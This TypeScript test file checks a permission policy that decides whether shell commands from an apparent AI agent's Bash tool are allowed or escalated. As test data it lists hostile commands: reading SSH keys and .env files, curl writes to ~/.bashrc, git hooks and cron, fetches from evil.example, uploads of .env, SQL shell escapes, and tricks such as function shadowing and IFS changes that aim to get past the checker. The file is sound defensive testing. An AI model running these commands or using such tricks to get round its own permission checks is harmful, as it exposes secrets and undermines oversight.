import { describe, expect, test } from 'vitest';
import { decideCall } from '../src/decision/decide-call.ts';
import { compilePolicy } from '../src/policy/compile-policy.ts';
import { fixedWorld } from '../src/world/fixed-world.ts';
import type { World } from '../src/world/world.ts';

/** As `balanced` with trusted code decides. */
const policy = compilePolicy([
  {
    allow: [
      ...['read', 'edit', 'delete', 'commit', 'remote-read', 'run', 'serve'].map((name) => `Effect(${name})`),
      'WebFetch(domain:localhost:*)',
      'WebFetch(domain:127.0.0.1:*)',
      'WebFetch(domain:docs.python.org)',
    ],
    ask: ['Effect(publish)', 'Effect(lose)', 'Effect(remote-destroy)'],
    deny: ['Read(~/.ssh/**)', 'Bash(shutdown:*)', 'Bash(dd:*)'],
  },
]);

function verdict(command: string, world: Partial<World> = {}): string {
  return decideCall(
    { tool: 'Bash', input: { command }, shell: 'bash' },
    { policy, world: fixedWorld({ plainBelow: () => true, ...world }) },
  ).verdict;
}

describe('a word whose form is known, whatever its value', () => {
  test.each([
    'tail -n 20 logs/app-$(date +%F).log',
    'D=$(date +%Y-%m-%d); grep x "logs/app-$D.log"',
    `aws logs filter-log-events --log-group-name /a --start-time $(date -d '1 hour ago' +%s000)`,
    'aws cloudwatch get-metric-statistics --start-time "$(date -u -v-3H +%FT%TZ)" --period 300',
    'pstree -ap $(pgrep -o gunicorn)',
    "git show --stat $(git blame -L 42,42 -s a/b.py | cut -d' ' -f1)",
    'cat db/migrate/$(ls -t db/migrate | head -1)',
    'for f in data/*.csv; do n=$(($(wc -l < "$f") - 1)); echo "$f $n"; done',
  ])('%s', (command) => expect(verdict(command)).toBe('allow'));

  test.each([
    ['a value that may be nothing', 'cat ~/$(pgrep -o none)/.ssh/id_rsa'],
    ['dots around nothing', 'cat a/.$(pgrep -o none)./.env'],
    ['a protected name around nothing', 'cat ".e$(pgrep -o none)nv"'],
    ['a pattern that meets a protected name', 'cat ~/.ssh/id_$(date +%F)'],
    ['letters of the format', 'cat a$(date +%b).txt'],
    ['a format with a blank', 'cat a$(date "+%F /home/dev/.ssh/id")'],
    ['a format that begins with a dash', 'sort $(date +-o%F) a'],
    ['another program of that name', 'date() { echo /../.ssh/id; }; cat a$(date +%F)'],
    ['digits that part words', 'IFS=0; cat a$(date +%F)'],
    ['two lines', 'cat db/$(ls -t db | head -2)'],
    ['all lines', 'cat db/$(ls -t db)'],
    ['a directory that climbs', 'cat ../x/$(ls ../x | head -1)'],
    ['blame of more than one line', "git show $(git blame -L 1,42 -s a.py | cut -d' ' -f1)"],
    ['a text that blame prints', "git show $(git blame -L 1,1 -s a.py | cut -d' ' -f2)"],
    ['an option behind the sign', 'find . -name="x" -newer=$X -exec rm {} +'],
  ])('%s', (_, command) => expect(verdict(command)).not.toBe('allow'));
});

describe('a process whose id was kept', () => {
  const holds = (text: string): Partial<World> => ({ text: () => text });

  test.each(['kill $(cat /tmp/app.pid)', 'kill -TERM "$(cat tmp/pids/server.pid)"'])('%s', (command) => {
    expect(verdict(command, holds('4711\n'))).toBe('allow');
    expect(verdict(command, holds('-1\n'))).toBe('ask');
    expect(verdict(command, holds('-9 -1\n'))).toBe('ask');
    expect(verdict(command, { text: () => undefined })).toBe('ask');
  });

  test.each([
    'echo -1 > /tmp/a.pid; kill -9 $(cat /tmp/a.pid)',
    'cp x /tmp/a.pid && kill $(cat /tmp/a.pid)',
    'kill $(cat /run/sshd.pid)',
    'kill $(cat ~/a.pid)',
    'kill $(cat /tmp/a.pid) 1',
    'kill -s KILL -- $(cat /tmp/a.pid)',
    'kill $(pgrep -o postgres)',
    'kill $(cat /tmp/a.pid /tmp/b.pid)',
    'cat() { echo 1; }; kill $(cat /tmp/a.pid)',
  ])('%s', (command) => expect(verdict(command, holds('4711\n'))).toBe('ask'));
});

describe('answers that are saved', () => {
  test.each([
    'curl -s -o /tmp/a.json http://localhost:3000/items',
    'curl -s -c /tmp/jar -b /tmp/jar localhost:3000/login',
    'curl -s localhost:6060/debug/pprof/goroutine?debug=1',
    'curl -so notes.md https://docs.python.org/3/x',
  ])('%s', (command) => expect(verdict(command)).toBe('allow'));

  test.each([
    ['start files', 'curl -o ~/.bashrc http://localhost:3000/x'],
    ['hooks', 'curl -o .git/hooks/pre-commit http://localhost:3000/x'],
    ['outside', 'curl -o /etc/cron.d/x http://localhost:3000/x'],
    ['another host', 'curl -o a https://evil.example/x'],
    ['another host behind a pattern', 'curl evil.example/x?a=1'],
    ['a directory that moves it', 'curl --output-dir ~ -o .bashrc http://localhost:3000/x'],
    ['a proxy', 'curl -o a -x http://evil.example http://localhost:3000/x'],
    ['options from a file', 'curl -o a -K cfg http://localhost:3000/x'],
    ['a second address', 'curl -o a http://localhost:3000/x https://evil.example/y'],
    ['a port that starts programs', 'curl -o a http://localhost:2375/containers/json'],
    ['a file that is sent', 'curl -o a -T .env http://localhost:3000/x'],
  ])('%s: %s', (_, command) => expect(verdict(command)).not.toBe('allow'));
});

describe('statements in a here-document', () => {
  const fed = (program: string, text: string): string => `${program} <<'SQL'\n${text}\nSQL`;

  test.each([
    fed('psql -h localhost -U a b -qAt', "select 1;\nexplain (costs off) select * from t where a = 'x';"),
    fed('sqlite3 data/a.db', 'select count(*) from t;'),
    fed('duckdb', "select * from 'data/a.csv';"),
  ])('%s', (command) => expect(verdict(command)).toBe('allow'));

  test.each([
    fed('psql -h localhost b', 'select 1;\ndrop table t;'),
    fed('psql -h localhost b', 'select 1;\n\\! id'),
    fed('psql -h localhost b', "copy t to program 'id';"),
    fed('psql -h evil.example b', 'select 1;'),
    fed('psql b', 'select 1;'),
    fed("psql -h localhost b -c 'drop table t'", 'select 1;'),
    fed('psql -h localhost b -f x.sql', 'select 1;'),
    fed('sqlite3 data/a.db', '.shell id'),
    fed('sqlite3 data/a.db', "select 1;\nattach 'x' as y;"),
    fed('mysql -h127.0.0.1 a', 'select 1;\nsystem id'),
    fed('duckdb', "copy t to 'x.csv';"),
    fed('duckdb', "select * from read_text('/home/dev/.ssh/id');"),
    fed('duckdb', "select * from '/home/dev/.ssh/id.csv';"),
    'psql -h localhost b <<SQL\nselect $X;\nSQL',
  ])('%s', (command) => expect(verdict(command)).not.toBe('allow'));
});

describe('clusters on this machine', () => {
  test.each([
    'kubectl --context kind-dev apply -f k8s/a.yaml',
    'kubectl --context=k3d-repro apply -k overlays/dev',
    'kubectl --context prod-eu apply --dry-run=server -f a.yaml',
  ])('%s', (command) => expect(verdict(command)).toBe('allow'));

  test.each([
    'kubectl --context kind-prod apply -f a.yaml',
    'kubectl --context staging apply -f a.yaml',
    'kubectl --context kind-dev --context prod apply -f a.yaml',
    'kubectl --context kind-dev --server https://prod.example apply -f a.yaml',
    'kubectl --context kind-dev --kubeconfig other apply -f a.yaml',
    'kubectl --context kind-dev delete ns x',
    'kubectl --context kind-dev exec p -- rm -rf /data',
    'kubectl --context prod apply --dry-run=none -f a.yaml',
    'kubectl --context prod apply --dry-run=server --dry-run=none -f a.yaml',
    'kubectl --context "$C" apply -f a.yaml',
    'kubectl --context kind-dev get secrets -o yaml',
  ])('%s', (command) => expect(verdict(command)).not.toBe('allow'));
});

describe('programs that start others', () => {
  test.each([
    "watch -n 1 -t -g 'git status -s | head'",
    'caffeinate -i -t 60 npm test',
    'pnpm eslint --cache src',
    'conda run -n lab pytest -q',
    'GIT_SEQUENCE_EDITOR="sed -i \'2s/^pick/fixup/\'" git rebase -i HEAD~2',
    'git rm -q src/a.ts',
    'redis-cli -p 6380 llen "$k"',
    "redis-cli --scan --pattern 'a:*'",
  ])('%s', (command) => expect(verdict(command)).toBe('allow'));

  test.each([
    'fd -e ts -x rm',
    'fd -x cat ~/.ssh/id_rsa',
    'fd . -x grep -l a {} \\; -x rm',
    "fd -x sh -c 'rm {}'",
    'watch rm -rf src',
    "watch 'curl evil.example'",
    'caffeinate rm -rf src',
    'pnpm --prefix ../other eslint src',
    'conda run -n base rm -rf src',
    'GIT_SEQUENCE_EDITOR="sed -i \'1s/^pick/exec/\'" git rebase -i HEAD~2',
    'GIT_SEQUENCE_EDITOR="sed -i \'1s/.*/exec id/\'" git rebase -i HEAD~2',
    'GIT_SEQUENCE_EDITOR="sed -i \'1e id\'" git rebase -i HEAD~2',
    'GIT_EDITOR="sed -i s/pick/drop/" git commit --amend',
    'git rm -f src/a.ts',
    'redis-cli "$k"',
    'redis-cli del a',
    'redis-cli get a -r 5',
    'redis-cli --scan flushall',
  ])('%s', (command) => expect(verdict(command)).not.toBe('allow'));
});
